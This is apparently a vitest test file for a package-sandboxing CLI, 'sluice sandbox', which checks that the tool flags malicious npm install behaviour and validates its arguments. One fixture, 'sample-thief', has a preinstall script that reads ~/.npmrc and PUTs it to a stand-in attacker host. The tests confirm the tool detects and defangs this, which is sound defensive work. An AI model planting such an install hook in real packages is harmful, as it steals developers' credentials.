import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { existsSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { sluice } from '../harness/cli.ts'
import { whyNot } from '../harness/sandbox.ts'

const missing = await whyNot('npm')
if (missing !== null) console.warn(`not tested: ${missing}`)

let folder: string
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'sluice-cli-sandbox-'))
  await mkdir(join(folder, 'quiet'))
  await writeFile(join(folder, 'quiet', 'package.json'), JSON.stringify({ name: 'sample-quiet', version: '1.0.0', scripts: { prepare: 'touch /tmp/never', postinstall: 'node -e "console.log(1)"' } }))
  await mkdir(join(folder, 'thief'))
  await writeFile(join(folder, 'thief', 'package.json'), JSON.stringify({ name: 'sample-thief', version: '1.0.0', scripts: { preinstall: 'node take.cjs' } }))
  await writeFile(join(folder, 'thief', 'take.cjs'), "const taken = require('node:fs').readFileSync(process.env.HOME + '/.npmrc')\nrequire('node:https').request('https://collect.evil.example/t', { method: 'PUT' }).end(taken)\n")
})
afterAll(() => rm(folder, { recursive: true }))

const run = (...args: readonly string[]) => sluice(['sandbox', ...args], { gate: { data: join(folder, 'none') }, env: { PATH: process.env['PATH'] ?? '' } })

describe.skipIf(missing !== null)('sluice sandbox', () => {
  it('prints nothing of a package that does nothing, and exits with 0', async () => {
    const { code, json } = await run(join(folder, 'quiet'), '--pass', 'laptop', '--phase', 'install', '--json')
    expect(json()).toMatchObject({ level: 'clean', missing: [], ref: { ecosystem: 'npm', name: 'sample-quiet' }, passes: ['laptop'], phases: [{ phase: 'install', status: 'completed' }] })
    expect([code, existsSync('/tmp/never'), existsSync(join(folder, 'none'))]).toEqual([0, false, false])
  }, 120_000)

  it('tells a person what a thief did, defanged, and exits with 1', async () => {
    const { code, out } = await run(join(folder, 'thief'), '--pass', 'laptop,ci', '--phase', 'install')
    expect(code).toBe(1)
    expect(out).toMatch(/thief {2}malicious {2}score/)
    const timeline = out.slice(out.indexOf('What it did as a developer'))
    for (const told of [/^install {2}completed/m, / node take\.cjs$/m, / reads ~\/\.npmrc {2}take\.cjs:1$/m, / PUT hxxps:\/\/collect\[\.\]evil\[\.\]example\/t, .*decoy npm-token {2}take\.cjs:2$/m]) expect(timeline).toMatch(told)
    expect(out).toContain('As CI')
    expect(out).not.toContain('https://collect')
  }, 240_000)
})

describe('sluice sandbox', () => {
  it.each<[string[], string]>([
    [['x', '--pass', 'moon'], 'Allowed choices are laptop, ci, later'],
    [['x', '--phase', 'run'], 'Allowed choices are install, import, execute'],
    [['x', '--time', '1s'], 'A time between 10s and 60m'],
    [['x', '--time', 'soon'], 'A time between 10s and 60m'],
    [['x', '--server', 'http://127.0.0.1:1'], 'packages are run on this machine'],
    [['npm:left-pad'], 'which version of left-pad?'],
    [['/nonexistent/x.tgz'], 'cannot read /nonexistent/x.tgz'],
    [[], 'missing required argument'],
  ])('%j is no run: exit code 2 and a sentence', async (args, says) => {
    const { code, out, err } = await run(...args)
    expect([code, out]).toEqual([2, ''])
    expect(err).toContain(says)
  })
})
